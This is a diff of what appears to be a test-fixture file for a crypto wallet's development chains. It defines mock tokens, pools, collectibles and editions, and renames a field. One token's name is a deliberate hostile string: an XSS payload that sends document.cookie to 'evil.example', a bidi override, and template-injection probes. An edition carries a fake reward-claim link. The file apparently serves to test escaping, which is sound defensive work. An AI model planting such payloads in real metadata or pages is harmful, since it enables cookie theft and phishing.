@@ -1,20 +1,20 @@
-/** Written from right to left from here on, where it is not stopped. */
+/** A right-to-left override: the following text is reversed, unless it is isolated. */
 const BIDI = '\u202E'
-/** Two hundred characters that would be markup, a bidi trick and a link, were they anything but text. */
+/** Two hundred characters of markup, a bidi override and a link, which are dangerous if they are not escaped. */
 const HOSTILE_NAME =
   `<img src=x onerror="alert(1)">${BIDI}<script>fetch('https://evil.example/'+document.cookie)</script>${'\u200B'}"'\`\${7*7}{{7*7}}javascript:alert(1)//`.padEnd(
     200,
     'A',
   )
 
-/** What a token calls itself that is out to harm. */
+/** The name and symbol of a malicious token. */
 export const hostileName = { name: HOSTILE_NAME, symbol: `<b>${BIDI}DSUG</b>` }
 
 const ether = 10n ** 18n
 
 /**
- * The tokens of the development chains. `holders` is what each account of the chain gets, `pool` what lies beside how
- * many ether; both in smallest units. An ether costs 2,500 dollars there.
+ * The tokens of the development chains. `amountPerAccount` is the amount for each account, `pool` the amounts of the
+ * token and of ether; all in smallest units. An ether costs 2,500 dollars there.
  */
 export const marketTokens = [
   {
@@ -23,7 +23,7 @@ export const marketTokens = [
     name: 'Oak',
     symbol: 'OAK',
     decimals: 18,
-    holders: 1_000n * ether,
+    amountPerAccount: 1_000n * ether,
     pool: { token: 100_000n * ether, ether: 200n * ether },
   },
   {
@@ -32,7 +32,7 @@ export const marketTokens = [
     name: 'Garden Dollar',
     symbol: 'GUSD',
     decimals: 18,
-    holders: 10_000n * ether,
+    amountPerAccount: 10_000n * ether,
     pool: { token: 2_500_000n * ether, ether: 1_000n * ether },
   },
   {
@@ -41,7 +41,7 @@ export const marketTokens = [
     name: 'Old Dollar',
     symbol: 'OLDUSD',
     decimals: 6,
-    holders: 10_000n * 10n ** 6n,
+    amountPerAccount: 10_000n * 10n ** 6n,
     pool: { token: 1_000_000n * 10n ** 6n, ether: 400n * ether },
   },
   {
@@ -50,7 +50,7 @@ export const marketTokens = [
     name: 'Ticket',
     symbol: 'TICKET',
     decimals: 0,
-    holders: 100n,
+    amountPerAccount: 100n,
     pool: { token: 10_000n, ether: 100n * ether },
   },
   {
@@ -59,7 +59,7 @@ export const marketTokens = [
     name: 'Toll',
     symbol: 'TOLL',
     decimals: 18,
-    holders: 10_000n * ether,
+    amountPerAccount: 10_000n * ether,
     pool: { token: 1_000_000n * ether, ether: 200n * ether },
   },
   {
@@ -67,28 +67,28 @@ export const marketTokens = [
     contract: 'Token',
     ...hostileName,
     decimals: 18,
-    holders: 1_000_000n * ether,
+    amountPerAccount: 1_000_000n * ether,
     pool: { token: 10_000_000n * ether, ether: 40n * ether },
   },
 ]
 
 /**
- * Pools without ether: one is small and a little cheaper than the way over ether, so that the better way depends on
- * the amount.
+ * Pools without ether. One is small and slightly cheaper than the route over ether, so the best route depends on the
+ * amount.
  */
 export const directPools = [
   { a: 'oak', b: 'dollar', amountA: 2_000n * ether, amountB: 10_100n * ether },
   { a: 'dollar', b: 'old', amountA: 50_000n * ether, amountB: 50_000n * 10n ** 6n },
 ]
 
-/** What the collectibles say they are; the last edition is of the kind that nobody asked for. */
+/** The metadata of the collectibles; the last edition is unsolicited spam. */
 export const collectibles = [
   { id: 1n, uri: described('Pebble #1', '#7a8b99') },
   { id: 2n, uri: described('Pebble #2', '#b8a48c') },
   { id: 3n, uri: described(`Pebble <b>#3</b>${BIDI}`, '#5d6b57') },
 ]
 
-/** The editions: how many the first account gets, and what they say. */
+/** The editions: the first account's amount, and their metadata. */
 export const editions = [
   { id: 1n, count: 5n, uri: described('Acorn', '#8a5a2b') },
   { id: 2n, count: 1n, uri: described('Claim 5,000 USDC at https://claim-reward.example', '#c0392b') },
